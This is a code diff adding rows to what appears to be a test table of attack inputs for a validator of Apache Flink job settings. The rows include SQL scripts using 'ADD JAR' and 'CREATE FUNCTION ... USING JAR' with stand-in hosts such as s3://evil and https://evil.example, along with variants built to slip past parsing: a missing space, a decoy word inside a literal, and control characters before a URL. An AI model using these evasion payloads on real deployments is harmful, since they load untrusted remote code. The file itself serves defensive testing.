@@ -66,6 +66,24 @@ const jarRows: readonly Row[] = [
   [application({ python: { ...pythonFile, requirements: 's3://evil/r.txt' } }), '/job/python/requirements', 'jars'],
   [options({ 'python.files': 's3://evil/a.zip' }), '/config/python.files', 'jars'],
   [dynamic("-D'pipeline.classpaths=https://evil.example/a.jar'"), args, 'jars'],
+  // Flink's parser needs no blank between the word and the literal.
+  [application({ sql: { script: "ADD JAR's3://evil/udf.jar'; INSERT INTO a SELECT 1" } }), '/job/sql/script', 'jars'],
+  [
+    application({ sql: { script: "CREATE FUNCTION f AS 'a.F' USING JAR's3://evil/b.jar'; INSERT INTO a SELECT 1" } }),
+    '/job/sql/script',
+    'jars',
+  ],
+  // A word in a literal is none of the statement.
+  [
+    application({
+      sql: { script: "CREATE FUNCTION f AS 'a.F JAR ' USING JAR 's3://evil/b.jar'; INSERT INTO a SELECT 1" },
+    }),
+    '/job/sql/script',
+    'jars',
+  ],
+  // A URL of Java ignores blanks and controls around it.
+  [options({ 'pipeline.classpaths': "[' https://evil.example/a.jar']" }), '/config/pipeline.classpaths', 'jars'],
+  [application({ jar: local, classpaths: ['\u0001https://evil.example/a.jar'] }), '/job/classpaths', 'jars'],
 ];
 
 export const jarAttacks: readonly Row[] = jarRows;
